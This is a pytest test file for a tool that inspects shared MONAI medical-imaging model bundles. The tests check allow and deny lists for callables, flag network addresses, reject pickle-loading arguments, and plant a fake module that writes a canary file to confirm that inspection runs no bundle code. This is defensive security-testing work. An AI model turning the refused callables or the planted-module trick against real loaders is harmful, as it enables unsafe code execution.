    assert inspect_bundle(bundle).refused == ()


def test_a_compiled_network_is_named_and_not_refused(bundle: Path) -> None:
    torch.jit.save(torch.jit.trace(torch.nn.Linear(2, 2), torch.zeros(1, 2)), bundle / "models" / "model.ts")
    found = inspect_bundle(bundle)
    assert found.refused == ()
    assert [r.verdict for r in found.remarks if r.file == "models/model.ts"] == [Verdict.ATTENTION]


def test_addresses_are_told_where_something_may_connect_to_them(bundle: Path) -> None:
    config = {"x": {"_target_": "MLFlowHandler", "tags": {"server": "http://tracking.example:5000"}}}
    (bundle / "configs" / "train.json").write_text(json.dumps(config))
    found = inspect_bundle(bundle)
    assert found.refused == ()
    told = {(r.where, r.kind): r.verdict for r in found.remarks if r.verdict == Verdict.ATTENTION}
    assert told == {("x#_target_", "callable"): "attention", ("x#tags#server", "address"): "attention"}


@pytest.mark.parametrize("uri", [None, "mlruns", "sqlite:///mlflow.db", "@tracking_uri"])
def test_a_local_place_of_tracking_passes(bundle: Path, uri: str | None) -> None:
    config = {"tracking_uri": None, "x": {"_target_": "MLFlowHandler", "tracking_uri": uri}}
    (bundle / "configs" / "train.json").write_text(json.dumps(config))
    assert inspect_bundle(bundle).refused == ()


def test_what_writes_is_named_in_our_own_bundles() -> None:
    told = {r.text for r in inspect_bundle(shipped_bundles()["cxr_nih14"]).remarks if r.verdict == Verdict.ATTENTION}
    assert {"cxr_monai.components.MLflowTracker", "cxr_monai.components.TrainedBundle"} <= told


def test_inspecting_imports_nothing_that_could_run_a_bundle(bundle: Path) -> None:
    (bundle / "captum.py").write_text(f"open({str(bundle.parent / 'canary')!r}, 'w')")
    code = (
        "import sys; from cxr_monai.sharing.inspection.bundle_inspection import inspect_bundle\n"
        "n = len(inspect_bundle('.').refused); "
        "bad = [m for m in ('torch', 'monai', 'captum', 'numpy') if m in sys.modules]; print(n, bad)"
    )
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(path for path in sys.path if path)}
    done = subprocess.run([sys.executable, "-c", code], cwd=bundle, env=environment, capture_output=True, text=True)
    assert (done.returncode, done.stdout.strip()) == (0, "1 []")
    assert not (bundle.parent / "canary").exists()


def test_no_folder_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(BundleError) as caught:
        inspect_bundle(tmp_path / "missing")
    assert caught.value.code == Code.BUNDLE_INVALID


@pytest.mark.parametrize(
    ("name", "verdict"),
    [
        ("DenseNet121", "allowed"),
        ("monai.networks.nets.DenseNet121", "allowed"),
        ("SaveImaged", "attention"),
        ("monai.transforms.SaveImaged", "attention"),
        ("monai.bundle.DenseNet121", "refused"),
        ("evil.DenseNet121", "refused"),
        ("torch.device", "allowed"),
        ("torch.devices", "refused"),
        ("os.path.join", "allowed"),
        ("os.path", "refused"),
        ("cxr_monai.components.parse_labels", "allowed"),
        ("cxr_monai.labels", "refused"),
        ("monai.apps.DenseNet121", "refused"),
        ("monai.losses.PerceptualLoss", "refused"),
        ("cxr_monai.components.MLflowTracker", "attention"),
    ],
)
def test_callables_are_judged_one_by_one(name: str, verdict: str) -> None:
    assert judge_callable(name)[0] == verdict


def test_no_name_is_on_two_lists() -> None:
    known = allowed_lists()
    allowed = {*known["monai"], *known["callables"]}
    assert allowed & known["attention"].keys() == set()
    assert allowed & known["refused"].keys() == set()
    assert known["attention"].keys() & known["refused"].keys() == set()


def test_what_expressions_may_use_of_monai_is_listed_and_takes_no_dangerous_argument_by_position() -> None:
    known = allowed_lists()
    assert {*known["functions"], *known["pretrained"]} <= {*known["monai"]}
    for name in known["functions"]:
        found = next(getattr(part, name) for part in (data, engines, handlers, utils, networks, inferers, optimizers,
                                                       transforms) if hasattr(part, name))  # fmt: skip
        assert not {"pretrained", "reader", "allow_pickle", "pickle_module"} & signature(found).parameters.keys(), name


def test_networks_that_download_by_default_are_listed() -> None:
    assert {
        name
        for name in allowed_lists()["monai"]
        if hasattr(networks.nets, name)
        and callable(getattr(networks.nets, name))
        and (default := signature(getattr(networks.nets, name)).parameters.get("pretrained")) is not None
        and default.default is not False
    } <= {*allowed_lists()["pretrained"]}
